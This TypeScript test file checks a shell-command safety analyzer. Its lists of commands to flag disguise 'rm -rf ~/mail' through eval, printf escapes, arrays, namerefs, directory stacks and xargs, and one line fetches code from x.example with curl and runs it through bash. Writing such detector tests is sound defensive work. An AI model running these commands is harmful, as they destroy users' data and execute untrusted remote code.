import { describeCommands } from "@/lib/testing/describe-commands";

describeCommands(
  "all that several commands print counts",
  [
    "eval \"$(echo 'rm -rf ~/mail'; echo pwd)\"",
    "{ printf 'rm -rf ~/mail\\n'; echo pwd; } | bash",
    'J=$(curl -s https://x.example/i; echo pwd); bash -c "$J"',
    "rm -rf $(echo ~/mail; echo out)",
    'rm -rf "$([ -e y ] && echo ~/mail || echo out)"',
    "{ echo ~/mail; echo out; } | xargs rm -rf",
    "echo pwd > s; echo 'rm -rf ~/mail' | cat - s | sh",
  ],
  [
    "eval \"$(echo 'ls'; echo pwd)\"",
    'cd "$(cd "$(dirname "$0")" && pwd)" && ls',
    "{ echo out; echo build; } | xargs ls",
    'V=$(mkdir -p out && echo 1.0); echo "$V"',
  ],
);

describeCommands(
  "a format is read as printf reads it",
  [
    "bash -c \"$(printf -- 'rm -rf ~/mail')\"",
    'printf -v K -- "%s" ~/mail; rm -rf "$K"',
    "rm -rf \"$(printf '\\u002e\\u002e/\\u002e\\u002e')\"",
  ],
  ["printf -- '%s\\n' done", 'printf -v K -- "%s" out; ls "$K"'],
);

describeCommands(
  "an element that a number chooses is that one, or not known",
  [
    'L=(out ~/mail); rm -rf "${L[$((2-1))]}"',
    'L=(out ~/mail); j=0; ((j++)); rm -rf "${L[$j]}"',
    'L=([1]=~/mail [0]=out); rm -rf "${L[1]}"',
    'L=(out ~/mail); L=out; rm -rf "${L[@]}"',
    'L=(out out); read "L[1]" <<< ~/mail; rm -rf "${L[@]}"',
    'Y=out; declare -n q=Y; q=~/mail; rm -rf "$Y"',
  ],
  ['L=(out build); rm -rf "${L[$((2-1))]}"', 'declare -A m; m[a]=out; ls "${m[a]}"', "echo part $((1+2)) of $#"],
);

describeCommands(
  "what is read, and where from",
  [
    'read Y <<< ~/mail 4<<< out; rm -rf "$Y"',
    "cd ~/mail; pushd /tmp/p; pushd /tmp/q; popd; popd; rm -rf ./*",
    "cd ~/mail; cd /tmp/p; rm -rf ~-/*",
    "find /tmp/p ~/mail -type f -exec rm -f {} +",
  ],
  ['read Y <<< out; ls "$Y"', "pushd packages/a; npm test; popd; ls", "find src tests -name '*.pyc' -exec rm -f {} +"],
);
